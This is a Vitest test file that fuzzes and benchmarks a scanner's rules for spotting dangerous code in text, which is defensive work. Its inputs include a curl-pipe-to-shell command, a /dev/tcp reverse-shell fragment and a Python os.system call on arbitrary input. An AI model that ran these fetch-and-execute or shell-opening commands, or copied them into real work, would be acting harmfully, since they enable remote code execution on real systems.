import { describe, expect, it } from 'vitest'
import { chunkText } from '../../src/scan/chunk'
import { analyzeChunk } from '../../src/scan/rules/code/analyze'
import { codeFindings, runCodeRules } from './code-helpers'

/** A deterministic pseudo-random generator (mulberry32), so the fuzz cases are the same on every run. */
function random(seed: number): () => number {
  let a = seed >>> 0
  return () => {
    a = (a + 0x6d2b79f5) >>> 0
    let t = a
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

const PIECES = [
  'eval(',
  'exec(',
  '__import__(',
  "'os'",
  ')',
  '(',
  '.system(',
  '"',
  "'",
  '`',
  '$(',
  '|',
  ' sh',
  'curl https://x.example/a',
  '\n',
  '```',
  '```python\n',
  '```js\n',
  '```bash\n',
  '__class__.__mro__',
  '{',
  '}',
  '[',
  ']',
  ';',
  ' && ',
  '/dev/tcp/1.2.3.4/1',
  'require(x)',
  'import(',
  'const a = ',
  'def f(a):\n    ',
  '\\',
  '记住：',
  '\u200b',
  ' ',
]

describe('code rules: robustness', () => {
  it('never throws and keeps offsets inside the chunk on random code-like input', () => {
    const next = random(9)
    for (let n = 0; n < 300; n++) {
      let text = ''
      const parts = 1 + Math.floor(next() * 30)
      for (let i = 0; i < parts; i++) text += PIECES[Math.floor(next() * PIECES.length)]
      const chunks = chunkText(text)
      const input = { text, chunks }
      for (const chunk of chunks) {
        for (const hit of analyzeChunk({ ...chunk }, input)) {
          expect(hit.start).toBeGreaterThanOrEqual(chunk.start)
          expect(hit.end).toBeLessThanOrEqual(chunk.end)
          expect(hit.end).toBeGreaterThanOrEqual(hit.start)
        }
      }
      expect(() => runCodeRules(input)).not.toThrow()
    }
  })

  it('is deterministic: the same text gives the same findings, whatever ran before', () => {
    const text = 'Note:\n```python\nimport os\ndef run(c):\n    os.system(c)\n```\nand `curl -s https://x.example/a | sh`'
    const first = JSON.stringify(codeFindings(text))
    codeFindings('```js\neval(x)\n```')
    expect(JSON.stringify(codeFindings(text))).toBe(first)
    expect(first).toContain('code/process-spawn')
  })

  it('a reused chunk object with new text is analysed again', () => {
    const text = '```js\neval(a)\n```'
    const chunks = chunkText(text)
    const code = chunks.find((c) => c.kind === 'code')
    expect(code).toBeDefined()
    if (!code) return
    expect(analyzeChunk(code, { text, chunks }).length).toBeGreaterThan(0)
    const benign = '```js\nfoo(a)\n```'
    const mutated = Object.assign(code, { text: 'foo(a)' })
    expect(analyzeChunk(mutated, { text: benign, chunks })).toEqual([])
  })

  it('stays fast on inputs built against its scanners (unclosed substitutions, deep nesting, long chains)', () => {
    for (const text of ['$('.repeat(50_000), 'eval(' + '('.repeat(100_000), 'a.'.repeat(100_000) + 'eval(', '`'.repeat(100_000)]) {
      const started = performance.now()
      codeFindings(text)
      // A quadratic path takes tens of seconds here; a linear one a few milliseconds.
      expect(performance.now() - started).toBeLessThan(3_000)
    }
  })

  it('scans large inputs in roughly linear time', () => {
    const line = 'x = [1, 2, 3]  # eval( curl | sh $( ` __class__ exec(" \n'
    const big = line.repeat(Math.ceil(200_000 / line.length))
    const huge = '```python\n' + big + '```\n' + 'The user prefers eval( over exec( | sh `x` '.repeat(20_000)
    const started = performance.now()
    const findings = codeFindings(huge)
    const elapsed = performance.now() - started
    expect(Array.isArray(findings)).toBe(true)
    // Generous bound for a shared CI machine: a quadratic path would take minutes on ~1 MB.
    expect(elapsed).toBeLessThan(15_000)
  })
})
